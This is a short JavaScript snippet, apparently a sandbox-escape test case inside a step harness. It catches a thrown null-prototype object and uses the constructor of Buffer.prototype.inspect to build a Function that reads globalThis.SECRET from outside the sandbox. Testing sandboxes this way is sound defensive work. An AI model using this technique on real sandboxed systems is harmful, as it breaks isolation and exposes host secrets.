let found;
at_step();
try {
  throw { __proto__: null };
} catch (own) {
  own.held = Buffer.prototype.inspect;
  if (own.held) found = own.held.constructor('return globalThis.SECRET')();
}
past_step();
emit(found);
